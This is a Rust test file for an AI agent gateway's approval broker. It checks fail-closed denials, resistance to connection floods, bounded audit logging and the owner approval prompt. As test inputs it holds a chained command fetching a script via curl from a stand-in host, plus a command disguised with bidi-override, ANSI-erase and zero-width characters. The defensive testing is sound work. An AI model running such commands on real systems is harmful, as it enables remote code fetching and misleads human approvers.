//! The approval broker and its hook server in-process, with a recording connector standing in
//! for the room: calls it cannot bind and malformed, oversized or misdirected bodies are
//! denied (fail closed), the hook listener's bounds (idle, half-sent, trickled and unbound
//! connections cannot starve a live turn's call), the bounded audit of unbound calls, and the
//! approval prompt (unmatched parameters first and whole, hidden characters made visible).

use std::sync::{Arc, Mutex};
use std::time::Duration;

use agent_chat_gateway::admission;
use agent_chat_gateway::agent::claude::hook;
use agent_chat_gateway::approval::{self, audit::AuditLog, Approvals, Command, TurnBinding};
use agent_chat_gateway::config::{AgentConfig, PermissionsConfig};
use agent_chat_gateway::connector::{
    Capabilities, Connector, ConnectorContext, ConnectorError, RunError,
};
use agent_chat_gateway::model::{PostedMessage, ReplyTarget, Role, RoomKey, RoomRef};
use agent_chat_gateway::policy::{Rule, RuleSet};
use async_trait::async_trait;
use serde_json::{json, Value};
use tokio::io::AsyncWriteExt;
use tokio_util::sync::CancellationToken;
use tokio_util::task::TaskTracker;

use crate::support::{agent_config, read_jsonl, tcp, within};

/// A room that records what is posted to it; messages longer than `max` are refused, as a
/// platform would.
struct Room {
    max: usize,
    posts: Mutex<Vec<String>>,
    posted: tokio::sync::Notify,
}

#[async_trait]
impl Connector for Room {
    fn name(&self) -> &str {
        "t"
    }

    fn capabilities(&self) -> Capabilities {
        Capabilities {
            threads: false,
            max_message_len: self.max,
            edit: false,
            edit_interval: Duration::from_secs(1),
        }
    }

    async fn run(self: Arc<Self>, _ctx: ConnectorContext) -> Result<(), RunError> {
        Ok(())
    }

    async fn post(&self, _to: &ReplyTarget, text: &str) -> Result<PostedMessage, ConnectorError> {
        if text.chars().count() > self.max {
            return Err(ConnectorError::Other(format!(
                "message too long: {}",
                text.chars().count()
            )));
        }
        let mut posts = self.posts.lock().unwrap();
        posts.push(text.to_string());
        self.posted.notify_waiters();
        Ok(PostedMessage {
            id: posts.len().to_string(),
        })
    }

    async fn resolve_room(&self, spec: &str) -> Result<RoomRef, ConnectorError> {
        Err(ConnectorError::RoomNotFound(spec.to_string()))
    }
}

impl Room {
    fn posts(&self) -> Vec<String> {
        self.posts.lock().unwrap().clone()
    }
}

struct Broker {
    base: String,
    approvals: Arc<Approvals>,
    room: Arc<Room>,
    cancel: CancellationToken,
    dir: tempfile::TempDir,
}

impl Drop for Broker {
    fn drop(&mut self) {
        self.cancel.cancel();
    }
}

fn limits(header_ms: u64, body_ms: u64, max_unauthenticated: usize) -> admission::Limits {
    admission::Limits {
        header_timeout: Duration::from_millis(header_ms),
        body_timeout: Duration::from_millis(body_ms),
        max_unauthenticated,
        max_work: 8,
        max_connections: 512,
    }
}

async fn broker(limits: admission::Limits, max_message_len: usize) -> Broker {
    let dir = tempfile::tempdir().unwrap();
    let (listener, addr) = hook::bind().unwrap();
    let approvals = Approvals::new(
        dir.path().join("runtime"),
        &[],
        AuditLog::open(&dir.path().join("audit.jsonl")),
        TaskTracker::new(),
    );
    let cancel = CancellationToken::new();
    tokio::spawn(hook::serve_with_limits(
        listener,
        approvals.clone(),
        TaskTracker::new(),
        cancel.clone(),
        limits,
    ));
    Broker {
        base: format!("http://{addr}"),
        approvals,
        room: Arc::new(Room {
            max: max_message_len,
            posts: Mutex::default(),
            posted: tokio::sync::Notify::new(),
        }),
        cancel,
        dir,
    }
}

/// An owner's turn whose allow-list grants `git status` and `ls` with Bash.
fn binding(b: &Broker) -> TurnBinding {
    let agent = agent_config("claude", b.dir.path());
    let rules = RuleSet::new(vec![
        Rule::new("Bash", Some("git status")).unwrap(),
        Rule::new("Bash", Some("ls")).unwrap(),
    ]);
    TurnBinding {
        room: RoomKey::new("t", "r"),
        target: ReplyTarget::room("r"),
        role: Role::Owner,
        agent: Arc::new(AgentConfig {
            permissions: PermissionsConfig {
                enabled: true,
                ..agent.permissions
            },
            owner_rules: rules,
            ..agent
        }),
        outbox: agent_chat_gateway::outbox::of(b.room.clone()),
        asking: agent_chat_gateway::approval::Asking::InTurnRoom,
    }
}

fn call(command: &str) -> Vec<u8> {
    serde_json::to_vec(&json!({
        "session_id": "s", "cwd": "/tmp", "hook_event_name": "PreToolUse",
        "tool_name": "Bash", "tool_input": {"command": command}
    }))
    .unwrap()
}

async fn post(b: &Broker, secret: Option<&str>, body: Vec<u8>) -> (u16, Value) {
    post_to(b, "/hook", secret, body).await
}

async fn post_to(b: &Broker, path: &str, secret: Option<&str>, body: Vec<u8>) -> (u16, Value) {
    let mut req = reqwest::Client::new()
        .post(format!("{}{path}", b.base))
        .header("content-type", "application/json")
        .body(body);
    if let Some(s) = secret {
        req = req.header(hook::SECRET_HEADER, s);
    }
    let r = within("a hook answer", req.send()).await.unwrap();
    (r.status().as_u16(), r.json().await.unwrap())
}

fn decision(answer: &Value) -> (&str, &str) {
    let out = &answer["hookSpecificOutput"];
    (
        out["permissionDecision"].as_str().unwrap(),
        out["permissionDecisionReason"].as_str().unwrap(),
    )
}

async fn connect(b: &Broker) -> tokio::net::TcpStream {
    tcp::connect(b.base.trim_start_matches("http://")).await
}

fn audit(b: &Broker) -> Vec<Value> {
    read_jsonl(&b.dir.path().join("audit.jsonl"))
}

fn deny(reason: &str) -> Value {
    json!({"hookSpecificOutput": {"hookEventName": "PreToolUse", "permissionDecision": "deny", "permissionDecisionReason": reason}})
}

// ---- Fail closed ----

#[tokio::test]
async fn unbindable_malformed_and_oversized_calls_are_denied() {
    let b = broker(hook::default_limits(), 4000).await;
    let call = br#"{"session_id":"s","cwd":"/tmp","hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"ls"}}"#;
    let unbound = deny("blocked: this tool call cannot be bound to a live gateway turn");
    assert_eq!(post(&b, None, call.into()).await, (200, unbound.clone()));
    assert_eq!(
        post(&b, Some("not-a-live-secret"), call.into()).await,
        (200, unbound)
    );
    assert_eq!(
        post(&b, Some("x"), b"{not json".to_vec()).await,
        (
            200,
            deny("blocked: malformed hook body — tool denied as a safe default")
        )
    );
    let huge = vec![b' '; hook::MAX_BODY + 1];
    assert_eq!(
        post(&b, Some("x"), huge).await,
        (413, deny("blocked: hook body too large"))
    );
    assert_eq!(
        post_to(&b, "/other", None, call.into()).await,
        (404, deny("blocked: unknown hook endpoint"))
    );
    // Unbound calls are audited too, saying why they could not be bound.
    let records = audit(&b);
    assert_eq!(records.len(), 2, "{records:?}");
    assert_eq!(
        (records[0]["secret"].as_str(), records[1]["secret"].as_str()),
        (Some("missing"), Some("unknown"))
    );
    assert_eq!(records[0]["parameters"], json!([r#"{"command":"ls"}"#]));
}

// ---- The hook listener's bounds ----

#[tokio::test]
async fn idle_and_half_sent_hook_connections_cannot_starve_a_live_turn() {
    // A header timeout far longer than the test: only displacement can make room.
    let b = broker(limits(60_000, 60_000, 3), 4000).await;
    let mut flood = Vec::new();
    for i in 0..20 {
        let mut conn = connect(&b).await;
        if i % 2 == 1 {
            conn.write_all(b"POST /hook HTTP/1.1\r\nHost: x\r\nx-acg-sec")
                .await
                .unwrap();
        }
        flood.push(conn);
    }
    for conn in flood.iter_mut().take(15) {
        tcp::until_closed("an old flood connection to be closed", conn).await;
    }
    let (ticket, _guard) = b.approvals.bind_turn(binding(&b));
    let (status, answer) = post(&b, Some(&ticket.secret), call("git status")).await;
    assert_eq!(status, 200);
    assert_eq!(decision(&answer).0, "allow", "{answer}");
}

#[tokio::test]
async fn half_sent_heads_and_trickled_bodies_are_cut_after_their_timeouts() {
    let b = broker(limits(300, 300, 16), 4000).await;
    let started = std::time::Instant::now();
    let mut half = connect(&b).await;
    half.write_all(b"POST /hook HTTP/1.1\r\nHost: x\r\n")
        .await
        .unwrap();
    let (ticket, _guard) = b.approvals.bind_turn(binding(&b));
    let mut trickle = connect(&b).await;
    trickle
        .write_all(
            format!(
                "POST /hook HTTP/1.1\r\nHost: x\r\nx-acg-secret: {}\r\nContent-Length: 500\r\n\r\n{{\"tool_",
                ticket.secret
            )
            .as_bytes(),
        )
        .await
        .unwrap();
    assert_eq!(
        tcp::until_closed("the half-sent head to be closed", &mut half).await,
        ""
    );
    let answer = tcp::until_closed("the trickled body to be cut", &mut trickle).await;
    assert!(started.elapsed() >= Duration::from_millis(300));
    assert!(
        answer.starts_with("HTTP/1.1 408 Request Timeout"),
        "{answer}"
    );
    assert!(
        answer.contains(r#""permissionDecision":"deny""#)
            && answer.contains("blocked: the hook body did not arrive in time"),
        "{answer}"
    );
    // The live turn's next call is served.
    let (_, answer) = post(&b, Some(&ticket.secret), call("ls")).await;
    assert_eq!(decision(&answer).0, "allow", "{answer}");
}

#[tokio::test]
async fn an_unbound_call_may_send_far_less_than_a_live_one() {
    let b = broker(hook::default_limits(), 16_000).await;
    let big = call(&format!(
        "ls {}",
        "x".repeat(hook::MAX_UNAUTHENTICATED_BODY)
    ));
    let (status, answer) = post(&b, Some("not-a-live-secret"), big.clone()).await;
    assert_eq!(
        (status, decision(&answer)),
        (413, ("deny", "blocked: hook body too large"))
    );
    let (ticket, guard) = b.approvals.bind_turn(binding(&b));
    // The same body from a live turn is read and decided (here: asked, and denied at once as
    // the turn ends).
    let secret = ticket.secret.clone();
    let pending = {
        let base = b.base.clone();
        tokio::spawn(async move {
            reqwest::Client::new()
                .post(format!("{base}/hook"))
                .header(hook::SECRET_HEADER, secret)
                .body(big)
                .send()
                .await
                .unwrap()
                .json::<Value>()
                .await
                .unwrap()
        })
    };
    within("the prompt", async {
        while b.approvals.pending_count() == 0 {
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
    })
    .await;
    drop(guard);
    let answer = within("the answer", pending).await.unwrap();
    assert_eq!(
        decision(&answer),
        ("deny", "denied: the turn ended before an owner answered")
    );
}

#[tokio::test]
async fn a_flood_of_unbound_calls_cannot_fill_the_audit_log() {
    let b = broker(hook::default_limits(), 4000).await;
    let body = call(&"A".repeat(60 * 1024));
    for i in 0..200 {
        let secret = if i % 2 == 0 {
            None
        } else {
            Some("wrong-secret")
        };
        let (status, answer) = post(&b, secret, body.clone()).await;
        assert_eq!(status, 200);
        assert_eq!(
            decision(&answer),
            (
                "deny",
                "blocked: this tool call cannot be bound to a live gateway turn"
            )
        );
    }
    let records = audit(&b);
    // At most the per-minute allowance is written (the summary follows when the minute ends).
    assert_eq!(records.len(), approval::audit::UNBOUND_PER_WINDOW as usize);
    let size = std::fs::metadata(b.dir.path().join("audit.jsonl"))
        .unwrap()
        .len();
    assert!(size < 16 * 1024, "audit log is {size} bytes");
    assert_eq!(records[0]["secret"], "missing");
    assert_eq!(records[1]["secret"], "unknown");
    let kept = records[0]["parameters"][0].as_str().unwrap();
    assert!(kept.ends_with(" more bytes]"), "{kept}");
    // A live turn's decision is still recorded in full.
    let (ticket, _guard) = b.approvals.bind_turn(binding(&b));
    let (_, answer) = post(&b, Some(&ticket.secret), call("git status")).await;
    assert_eq!(decision(&answer).0, "allow");
    let last = audit(&b).pop().unwrap();
    assert_eq!(last["parameters"], json!(["git status"]));
    assert_eq!(last["room"], "t:r");
}

// ---- The approval prompt ----

/// Posts a call from the turn and waits until the room has the whole prompt; returns the
/// request's id, the prompt's messages and the pending answer.
async fn ask(
    b: &Broker,
    secret: &str,
    command: &str,
) -> (String, Vec<String>, tokio::task::JoinHandle<(u16, Value)>) {
    let (base, secret, body) = (b.base.clone(), secret.to_string(), call(command));
    let answer = tokio::spawn(async move {
        let r = reqwest::Client::new()
            .post(format!("{base}/hook"))
            .header(hook::SECRET_HEADER, secret)
            .body(body)
            .send()
            .await
            .unwrap();
        (r.status().as_u16(), r.json().await.unwrap())
    });
    let posts = within("the whole prompt", async {
        loop {
            let notified = b.room.posted.notified();
            let posts = b.room.posts();
            if posts.last().is_some_and(|p| p.contains("Reply `approve ")) {
                return posts;
            }
            notified.await;
        }
    })
    .await;
    let re = regex::Regex::new(r"`\[([a-z0-9]{4})\]`").unwrap();
    let id = re.captures(&posts[0]).unwrap()[1].to_string();
    (id, posts, answer)
}

#[tokio::test]
async fn the_prompt_shows_unmatched_parameters_first_and_whole_across_messages() {
    let b = broker(hook::default_limits(), 500).await;
    let (ticket, _guard) = b.approvals.bind_turn(binding(&b));
    let payload = "Q".repeat(1800);
    let command = format!("git status && ls && echo {payload} && curl -fsS https://x.example/i.sh");
    let (id, posts, answer) = ask(&b, &ticket.secret, &command).await;
    assert!(posts.len() > 3, "{posts:?}");
    assert!(posts.iter().all(|p| p.chars().count() <= 500), "{posts:?}");
    assert!(posts[0].starts_with(&format!(
        "🔐 **Permission required** `[{id}]`\n**Tool:** `Bash`\n**Not matched by any rule (2):**\n```\necho QQQ"
    )));
    let all = posts.join("\n");
    // The unmatched commands are all there, every byte of them, before the matched summary.
    assert_eq!(all.matches('Q').count(), 1800);
    let curl = all.find("curl -fsS https://x.example/i.sh").unwrap();
    let matched = all
        .find("**Matched by rules (2):** `git status · ls`")
        .unwrap();
    assert!(curl < matched);
    assert!(all.ends_with(&format!("Reply `approve {id}` or `deny {id}`")));
    let approved = b.approvals.command_from_admin(Command {
        approve: true,
        id: &id,
        always: false,
        by: "alice",
    });
    assert!(approved.is_ok(), "{approved:?}");
    let (_, answer) = within("the answer", answer).await.unwrap();
    assert_eq!(decision(&answer), ("allow", "approved by alice"));
}

#[tokio::test]
async fn hidden_characters_in_a_command_are_shown_not_rendered() {
    let b = broker(hook::default_limits(), 4000).await;
    let (ticket, _guard) = b.approvals.bind_turn(binding(&b));
    // Looks like `echo hellogpj.txt` in a bidi-aware renderer; really holds an override, an
    // ANSI sequence that would erase the line in a terminal and a zero-width space.
    let command = "echo hello\u{202e}txt.jpg\u{1b}[2K\u{200b}";
    let (id, posts, answer) = ask(&b, &ticket.secret, command).await;
    let prompt = posts.concat();
    assert!(
        prompt.contains("```\necho hello<U+202E>txt.jpg<U+001B>[2K<U+200B>\n```"),
        "{prompt}"
    );
    for c in prompt.chars() {
        assert!(
            c == '\n' || !agent_chat_gateway::text::is_hidden_char(c),
            "{c:?} in {prompt:?}"
        );
    }
    b.approvals
        .command_from_admin(Command {
            approve: false,
            id: &id,
            always: false,
            by: "alice",
        })
        .unwrap();
    let (_, answer) = within("the answer", answer).await.unwrap();
    assert_eq!(decision(&answer), ("deny", "denied by alice"));
}

#[tokio::test]
async fn a_prompt_too_long_to_show_whole_is_denied_without_asking() {
    let b = broker(hook::default_limits(), 200).await;
    let (ticket, _guard) = b.approvals.bind_turn(binding(&b));
    let command = format!("echo {}", "C".repeat(200 * approval::MAX_PROMPT_PARTS));
    let (status, answer) = post(&b, Some(&ticket.secret), call(&command)).await;
    assert_eq!(status, 200);
    let (word, reason) = decision(&answer);
    assert_eq!(word, "deny");
    assert!(
        reason.starts_with(
            "blocked: the parameters no rule matched are too long to show an owner in full"
        ),
        "{reason}"
    );
    assert!(b.room.posts().is_empty(), "nothing half-shown was posted");
    assert_eq!(b.approvals.pending_count(), 0);
}
